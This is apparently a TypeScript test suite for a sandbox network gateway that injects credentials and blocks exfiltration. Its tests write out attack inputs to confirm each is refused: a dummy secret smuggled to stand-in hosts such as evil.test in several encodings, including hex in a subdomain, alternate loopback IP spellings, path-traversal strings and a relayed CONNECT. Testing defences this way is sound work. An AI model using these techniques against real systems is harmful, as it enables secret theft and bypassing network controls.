// The gateway process on its own, driven over its real control socket and attacked through a real
// session socket the way a sandbox's relay would carry it: policy, TLS interception, injection, echo
// redaction, exfiltration, addressing and the control protocol's refusals. Every upstream here is a
// local server this test runs; every name is mapped to it by the override map.
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  connectControl,
  plainRequest,
  rawExchange,
  startGateway,
  tlsUpstream,
  tunnelRaw,
  tunnelRequest,
  type TestGateway,
} from '../support/gateway';

const SECRET = 'sk-test-SECRET-0123456789abcdef';
const ENCODED = {
  raw: SECRET,
  base64: Buffer.from(SECRET).toString('base64'),
  // The other two alignments: the secret after one and two bytes of something else.
  'base64 (offset 1)': Buffer.from(`x${SECRET}`).toString('base64'),
  'base64 (offset 2)': Buffer.from(`xy${SECRET}`).toString('base64'),
  base64url: Buffer.from(`?${SECRET}`).toString('base64url'),
  hex: Buffer.from(SECRET).toString('hex'),
  url: encodeURIComponent(SECRET).replace(/-/g, '%2D'),
};

describe('gateway', () => {
  let gw: TestGateway;
  let up: Awaited<ReturnType<typeof tlsUpstream>>;
  let plain: http.Server;
  const plainSeen: string[] = [];
  let sock = '';
  let caPem = '';

  const routes = [
    { host: 'api.test', credential: 'tok' },
    { host: 'other.test' },
    { host: 'plain.test' },
    { host: 'paths.test', methods: ['GET' as const], paths: ['/v1/'] },
    { host: 'localhost' },
    { host: '*.wild.test' },
  ];
  const credentials = [
    { name: 'tok', value: SECRET, inject: { type: 'bearer' as const }, hosts: ['api.test'] },
  ];

  before(async () => {
    up = await tlsUpstream(['api.test', 'other.test', 'paths.test'], (req, res) => {
      // An upstream that echoes what it got, as a debugging endpoint would.
      res.setHeader('x-echo', String(req.headers.authorization ?? ''));
      res.end(`auth=${req.headers.authorization ?? ''}`);
    });
    plain = http.createServer((req, res) => {
      plainSeen.push(`${req.method} ${req.url} host=${req.headers.host}`);
      res.end('plain-ok');
    });
    await new Promise<void>((r) => plain.listen(0, '127.0.0.1', r));
    const plainPort = (plain.address() as AddressInfo).port;
    const addr = `127.0.0.1:${up.port}`;
    gw = await startGateway({
      overrides: {
        'api.test': { address: addr, caPem: up.caPem },
        'other.test': { address: addr, caPem: up.caPem },
        'paths.test': { address: addr, caPem: up.caPem },
        'plain.test': { address: `127.0.0.1:${plainPort}` },
      },
    });
    const put = await gw.put('s-one', { routes, credentials });
    sock = put.socketPath;
    caPem = put.caCertPem;
  });
  after(async () => {
    await gw?.stop();
    await up?.close();
    plain?.close();
  });

  const lastBlock = async (rule: string) => {
    for (let i = 0; i < 50; i++) {
      const b = gw.control.events.find((e) => e.kind === 'blocked' && e.rule === rule);
      if (b) return b;
      await sleep(20);
    }
    assert.fail(
      `no block event with rule ${rule}; got ${JSON.stringify(gw.control.events.map((e) => (e.kind === 'blocked' ? e.rule : e.kind)))}`,
    );
  };

  it('intercepts an allowed tunnel and injects the credential, replacing what the sandbox sent', async () => {
    const n = up.seen.length;
    const r = await tunnelRequest(sock, caPem, 'api.test:443', {
      headers: { authorization: 'Bearer airlock-managed' },
    });
    assert.equal(r.status, 200);
    const got = up.seen[n]!;
    assert.equal(got.headers.authorization, `Bearer ${SECRET}`);
    assert.equal(got.headers.host, 'api.test');
    assert.equal(got.headers['accept-encoding'], 'identity');
    // The upstream echoed the credential in its body and a header: the sandbox sees neither.
    assert.ok(!r.body.includes(SECRET), r.body);
    assert.ok(!String(r.headers['x-echo']).includes(SECRET));
    assert.match(r.body, /REDACTED/);
  });

  it('refuses a host not on the list, a port not on the route, and reports each block', async () => {
    const r = await tunnelRequest(sock, caPem, 'evil.test:443');
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-airlock-block'], 'no-route');
    assert.match(r.body, /evil\.test/);
    await lastBlock('no-route');
    const p = await tunnelRequest(sock, caPem, 'api.test:8443');
    assert.equal(p.status, 403);
    assert.equal(p.headers['x-airlock-block'], 'port');
  });

  it('refuses a TLS server name other than the CONNECT host (domain fronting) before any request', async () => {
    const n = up.seen.length;
    await assert.rejects(tunnelRequest(sock, caPem, 'other.test:443', { servername: 'api.test' }));
    await lastBlock('sni-mismatch');
    assert.equal(up.seen.length, n);
  });

  it('never speaks HTTP/2 toward the sandbox', async () => {
    await assert.rejects(tunnelRequest(sock, caPem, 'other.test:443', { alpn: ['h2'] }));
  });

  it('refuses a request whose Host differs from the CONNECT target', async () => {
    const n = up.seen.length;
    const r = await tunnelRequest(sock, caPem, 'other.test:443', { headers: { host: 'api.test' } });
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-airlock-block'], 'host-mismatch');
    assert.equal(up.seen.length, n);
  });

  for (const [form, value] of Object.entries(ENCODED)) {
    it(`blocks the credential sent to another host (${form}) in path, query, header, cookie and body`, async () => {
      const n = up.seen.length;
      const attempts: Array<{
        path: string;
        method?: string;
        headers?: Record<string, string>;
        body?: string;
      }> = [
        { path: `/x/${value}` },
        { path: `/x?k=${value}` },
        { path: '/', headers: { 'x-note': value } },
        { path: '/', headers: { cookie: `a=${value}` } },
        { path: '/', method: 'POST', body: `{"k":"${value}"}` },
      ];
      for (const a of attempts) {
        const r = await tunnelRequest(sock, caPem, 'other.test:443', a);
        assert.equal(r.status, 403, JSON.stringify(a));
        assert.equal(r.headers['x-airlock-block'], 'exfiltration:tok');
        assert.ok(!r.body.includes(SECRET));
      }
      assert.equal(up.seen.length, n, 'the upstream received none of them');
    });
  }

  it('scans the request line: a credential in the CONNECT authority is refused before any DNS lookup', async () => {
    const hex = Buffer.from(SECRET).toString('hex');
    const before = gw.control.events.length;
    const t = await rawExchange(
      sock,
      `CONNECT ${hex}.wild.test:443 HTTP/1.1\r\nHost: ${hex}.wild.test:443\r\n\r\n`,
    );
    assert.match(t, /^HTTP\/1\.1 403/);
    assert.match(t, /X-Airlock-Block: exfiltration:tok/i);
    const plain = await rawExchange(
      sock,
      `GET http://${hex}.wild.test/ HTTP/1.1\r\nHost: ${hex}.wild.test\r\n\r\n`,
    );
    assert.match(plain, /X-Airlock-Block: exfiltration:tok/i);
    await lastBlock('exfiltration:tok');
    await sleep(50);
    // Neither block report carries the secret: they go to the audit log and the session's page.
    const reports = JSON.stringify(gw.control.events.slice(before));
    assert.match(reports, /exfiltration:tok/);
    assert.ok(!reports.toLowerCase().includes(hex.toLowerCase()), reports);
  });

  it('never reports a secret in a block, even for a refusal that is not about it', async () => {
    const before = gw.control.events.length;
    // Not on the list at all (rule no-route), with the secret raw in the path and hex in the host
    // (host names are lower-cased before anything reads them; hex survives that, base64 does not).
    await rawExchange(sock, `GET http://nowhere.test/${SECRET} HTTP/1.1\r\nHost: nowhere.test\r\n\r\n`);
    const hex = Buffer.from(SECRET).toString('hex').toUpperCase();
    await rawExchange(sock, `CONNECT ${hex}.evil.test:443 HTTP/1.1\r\nHost: ${hex}.evil.test:443\r\n\r\n`);
    await sleep(100);
    const reports = gw.control.events.slice(before);
    assert.equal(reports.length, 2, JSON.stringify(reports));
    const text = JSON.stringify(reports);
    assert.ok(!text.includes(SECRET) && !text.toLowerCase().includes(hex.toLowerCase()), text);
    assert.match(text, /"path":"\/\[REDACTED:tok\]"/);
    assert.match(text, /"host":"(\[withheld: it carried a secret\]|\[REDACTED:tok\]\.evil\.test)"/);
  });

  it('blocks a credential split across body chunks, and the upstream never gets the whole of it', async () => {
    const n = up.seen.length;
    const pieces = ['{"pad":"', SECRET.slice(0, 7), SECRET.slice(7, 19), SECRET.slice(19), '"}'];
    const r = await tunnelRequest(sock, caPem, 'other.test:443', {
      method: 'POST',
      path: '/upload',
      headers: { 'transfer-encoding': 'chunked' },
      body: pieces,
    });
    assert.equal(r.status, 403);
    assert.equal(r.headers['x-airlock-block'], 'exfiltration:tok');
    for (const s of up.seen.slice(n)) assert.ok(!s.body.toString().includes(SECRET));
  });

  it('applies the same policy to plain HTTP', async () => {
    const ok = await plainRequest(sock, 'http://plain.test/x');
    assert.equal(ok.status, 200);
    assert.equal(ok.body, 'plain-ok');
    assert.equal(plainSeen.at(-1), 'GET /x host=plain.test');
    const no = await plainRequest(sock, 'http://evil.test/');
    assert.equal(no.status, 403);
    assert.equal(no.headers['x-airlock-block'], 'no-route');
    const mismatch = await plainRequest(sock, 'http://plain.test/', { headers: { host: 'evil.test' } });
    assert.equal(mismatch.status, 403);
    assert.equal(mismatch.headers['x-airlock-block'], 'host-mismatch');
    const exfil = await plainRequest(sock, `http://plain.test/?q=${ENCODED.base64}`);
    assert.equal(exfil.headers['x-airlock-block'], 'exfiltration:tok');
  });

  it('checks methods and path prefixes, after normalising the path', async () => {
    assert.equal((await tunnelRequest(sock, caPem, 'paths.test:443', { path: '/v1/ok' })).status, 200);
    for (const path of ['/v2/x', '/v1/../admin', '/v1/%2e%2e/admin']) {
      const r = await tunnelRequest(sock, caPem, 'paths.test:443', { path });
      assert.equal(r.status, 403, path);
    }
    const post = await tunnelRequest(sock, caPem, 'paths.test:443', {
      path: '/v1/x',
      method: 'POST',
      body: 'a',
    });
    assert.equal(post.status, 403);
  });

  it('refuses IP literals in every spelling, and a listed name that resolves to a private address', async () => {
    for (const target of [
      '127.0.0.1:443',
      '2130706433:443',
      '0x7f.1:443',
      '0177.0.0.1:443',
      '[::1]:443',
      '[::ffff:127.0.0.1]:443',
    ]) {
      const r = await tunnelRequest(sock, caPem, target);
      assert.equal(r.status, 403, target);
    }
    const plainIp = await plainRequest(sock, 'http://127.0.0.1/');
    assert.equal(plainIp.status, 403);
    const local = await tunnelRequest(sock, caPem, 'localhost:443');
    assert.equal(local.status, 403);
    assert.equal(local.headers['x-airlock-block'], 'private-address');
  });

  it('refuses a CONNECT relayed through an allowed tunnel, request trailers and compressed bodies', async () => {
    const relayed = await tunnelRaw(
      sock,
      caPem,
      'other.test:443',
      'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n',
    );
    assert.match(relayed, /^HTTP\/1\.1 403/);
    assert.match(relayed, /X-Airlock-Block: relayed-connect/);
    const trailer = await tunnelRequest(sock, caPem, 'other.test:443', {
      method: 'POST',
      headers: { trailer: 'x-late', 'transfer-encoding': 'chunked' },
      body: 'a',
    });
    assert.equal(trailer.headers['x-airlock-block'], 'trailers');
    const gz = await tunnelRequest(sock, caPem, 'other.test:443', {
      method: 'POST',
      headers: { 'content-encoding': 'gzip' },
      body: 'x',
    });
    assert.equal(gz.headers['x-airlock-block'], 'compressed-body');
  });

  it('answers Expect: 100-continue itself, and scans the body before it goes on', async () => {
    const n = up.seen.length;
    const r = await tunnelRequest(sock, caPem, 'other.test:443', {
      method: 'POST',
      headers: { expect: '100-continue' },
      body: `x=${SECRET}`,
    });
    assert.equal(r.headers['x-airlock-block'], 'exfiltration:tok');
    assert.equal(up.seen.length, n);
  });

  it('applies a policy change to the next request, and refuses a bad one without changing anything', async () => {
    const bad = await gw.control.send({
      type: 'session.put',
      id: 's-one',
      policy: { routes: [{ host: 'other.test', credential: 'missing' }], credentials: [], sensitive: [] },
    });
    assert.equal(bad.ok, false);
    assert.match(!bad.ok ? bad.error.message : '', /missing/);
    assert.equal(
      (await tunnelRequest(sock, caPem, 'other.test:443')).status,
      200,
      'the old policy still holds',
    );
    await gw.put('s-one', { routes: routes.filter((r) => r.host !== 'other.test'), credentials });
    const r = await tunnelRequest(sock, caPem, 'other.test:443');
    assert.equal(r.status, 403);
    await gw.put('s-one', { routes, credentials });
  });

  it('refuses malformed control messages, and closes a connection that does not say hello with the token', async () => {
    const notJson = await gw.control.sendRaw('{nope');
    assert.equal(notJson.ok, false);
    const badShape = await gw.control.send({ type: 'session.put', id: 'BAD ID', policy: {} });
    assert.equal(badShape.ok, false);
    assert.match(!badShape.ok ? badShape.error.message : '', /id/);
    const stranger = await connectControl(gw.home);
    const r = await stranger.send({ type: 'hello', token: 'x'.repeat(40), protocol: 1 });
    assert.equal(r.ok, false);
    await assert.rejects(stranger.send({ type: 'session.list' }));
    const list = await gw.control.send({ type: 'session.list' });
    assert.deepEqual(list.ok && list.result, { ids: ['s-one'] });
  });

  it('drops a client that never finishes its headers', async () => {
    const slow = await startGateway({ limits: { headersTimeoutMs: 300 } });
    try {
      const p = await slow.put('s-slow', { routes: [{ host: 'plain.test' }] });
      const t0 = Date.now();
      const out = await rawExchange(
        p.socketPath,
        'GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n',
        5000,
      );
      assert.ok(Date.now() - t0 < 4000, 'closed before the test gave up');
      assert.ok(!out.includes('200'));
    } finally {
      await slow.stop();
    }
  });
});
